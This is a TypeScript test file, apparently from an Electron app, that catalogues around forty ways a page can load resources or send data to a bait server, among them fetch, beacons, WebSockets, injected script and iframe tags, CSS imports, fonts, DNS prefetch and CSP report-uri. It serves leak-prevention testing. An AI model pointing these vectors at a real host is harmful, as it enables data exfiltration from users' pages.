// Attacks that try to load something, or to send something away by loading it. What gets out is seen at the bait.
import type { Attack, Bait } from '../attacks.ts';

const NO_PRECONNECT = 'Electron itself connects to nothing beforehand';

interface Planted {
  readonly to: 'http' | 'https';
  readonly tag: string;
  readonly attribute: string;
  readonly more: Readonly<Record<string, string>>;
}

/** An attack that puts one element into the page and waits for the bait to be called. */
const element = (
  name: string,
  tag: string,
  attribute: string,
  more: Planted['more'] = {},
  { to = 'http', unseen }: { to?: Planted['to']; unseen?: string } = {},
): Attack => ({
  name,
  run: plant,
  given: { tag, attribute, more, to } satisfies Planted,
  ...(unseen && { unseen }),
});

function plant(bait: Bait, { tag, attribute, more, to }: Planted): void {
  const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
  const isPartOfSvg = tag.startsWith('svg:');
  const planted = isPartOfSvg ? document.createElementNS(svg.namespaceURI, tag.slice(4)) : document.createElement(tag);
  for (const [key, value] of Object.entries(more)) planted.setAttribute(key, value);
  planted.setAttribute(attribute, bait[to]);
  svg.append(planted);
  document.body.append(isPartOfSvg ? svg : planted);
}

export const loadAttacks: readonly Attack[] = [
  { name: 'fetch http', run: (bait) => void fetch(bait.http, { mode: 'no-cors' }).catch(() => undefined) },
  { name: 'fetch https', run: (bait) => void fetch(bait.https, { mode: 'no-cors' }).catch(() => undefined) },
  {
    name: 'fetch that outlives the page',
    run: (bait) => void fetch(bait.http, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }),
  },
  {
    name: 'fetch file',
    run: async (bait) => (await (await fetch(bait.file)).text()).length > 0,
    unseen: 'fetch never reads files',
  },
  {
    name: 'XMLHttpRequest',
    run: (bait) => {
      const request = new XMLHttpRequest();
      request.open('POST', bait.http);
      request.send('x');
    },
  },
  {
    name: 'XMLHttpRequest of a file',
    run: (bait) =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.open('GET', bait.file);
        request.onloadend = () => resolve(request.responseText.length > 0);
        request.send();
      }),
  },
  { name: 'WebSocket', run: (bait) => void new WebSocket(bait.ws) },
  { name: 'EventSource', run: (bait) => void new EventSource(bait.http) },
  { name: 'beacon', run: (bait) => void navigator.sendBeacon(bait.http, 'x') },
  { name: 'module from http', run: (bait) => void import(bait.http).catch(() => undefined) },
  {
    name: 'worker from http',
    run: (bait) => void new Worker(bait.http),
    unseen: 'a worker must be of the same origin',
  },
  {
    name: 'cache that fetches',
    run: async (bait) => void (await (await caches.open('x')).add(bait.http)),
    unseen: 'a page from a file has no cache',
  },
  {
    name: 'WebTransport',
    unseen: 'needs a server with a certificate that Chromium trusts',
    run: async (bait) => {
      const Transport = Reflect.get(globalThis, 'WebTransport') as new (url: string) => { ready: Promise<void> };
      await new Transport(bait.https).ready;
      return true;
    },
  },
  element('image', 'img', 'src'),
  element('image with srcset', 'img', 'srcset'),
  element('image in SVG', 'svg:image', 'href'),
  element('use in SVG', 'svg:use', 'href', {}, { unseen: 'it must be of the same origin' }),
  element('input image', 'input', 'src', { type: 'image' }),
  element('background attribute', 'table', 'background'),
  element('video', 'video', 'src', { autoplay: '' }),
  element('poster', 'video', 'poster'),
  element('audio', 'audio', 'src', { autoplay: '' }),
  element('script from http', 'script', 'src'),
  element('module script from http', 'script', 'src', { type: 'module' }),
  element('frame from http', 'iframe', 'src'),
  element('object', 'object', 'data'),
  element('embed', 'embed', 'src'),
  element('webview', 'webview', 'src', {}, { unseen: 'the driver of the tests cannot go on after one' }),
  element('style sheet', 'link', 'href', { rel: 'stylesheet' }),
  element('icon', 'link', 'href', { rel: 'icon' }, { unseen: 'Electron leaves icons alone' }),
  element('preload', 'link', 'href', { rel: 'preload', as: 'image' }),
  element('module preload', 'link', 'href', { rel: 'modulepreload' }),
  element('prefetch', 'link', 'href', { rel: 'prefetch' }),
  element('preconnect', 'link', 'href', { rel: 'preconnect' }, { to: 'https', unseen: NO_PRECONNECT }),
  element('manifest', 'link', 'href', { rel: 'manifest' }, { unseen: 'Electron leaves manifests alone' }),
  {
    name: 'name lookup by dns-prefetch',
    run: (bait) => {
      const link = document.createElement('link');
      link.rel = 'dns-prefetch';
      link.href = `http://${bait.host}/`;
      document.head.append(link);
    },
  },
  {
    name: 'name lookup by preconnect',
    unseen: NO_PRECONNECT,
    run: (bait) => {
      const link = document.createElement('link');
      link.rel = 'preconnect';
      link.href = `http://${bait.host}/`;
      document.head.append(link);
    },
  },
  {
    name: 'background image by a style property',
    run: (bait) => {
      const box = document.createElement('div');
      box.style.cssText = `width:9px;height:9px;background-image:url(${bait.http})`;
      document.body.append(box);
    },
  },
  {
    name: 'style element with an import and a picture',
    run: (bait) => {
      const style = document.createElement('style');
      style.append(`@import url(${bait.http}); body { background: url(${bait.http}) }`);
      document.head.append(style);
    },
  },
  {
    name: 'style element with the nonce of the page',
    run: (bait) => {
      const style = document.createElement('style');
      style.nonce = document.querySelector<HTMLMetaElement>('meta[name="csp-nonce"]')?.content ?? '';
      style.append(`@import url(${bait.http}); body { background: url(${bait.http}) }`);
      document.head.append(style);
    },
  },
  {
    name: 'constructed style sheet with a picture',
    run: (bait) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { background: url(${bait.http}) }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    },
  },
  { name: 'font', run: (bait) => void new FontFace('leak', `url(${bait.http})`).load().catch(() => undefined) },
  {
    name: 'fetch in a fresh frame',
    run: (bait) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      void frame.contentWindow?.fetch(bait.http, { mode: 'no-cors' }).catch(() => undefined);
    },
  },
  {
    name: 'frame from a file',
    run: async (bait) => {
      const frame = document.createElement('iframe');
      frame.src = bait.file;
      document.body.append(frame);
      await new Promise((resolve) => setTimeout(resolve, 500));
      // A frame that was refused still has our own origin; one that loaded has another, and may not be looked into.
      return frame.contentDocument === null || frame.contentDocument.body.textContent?.includes('bait');
    },
  },
  {
    name: 'policy report',
    unseen: 'a policy in the page may not report',
    run: (bait) => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'Content-Security-Policy';
      meta.content = `img-src 'none'; report-uri ${bait.http}`;
      document.head.append(meta);
      document.body.append(Object.assign(new Image(), { src: 'data:image/png;base64,AA' }));
    },
  },
];
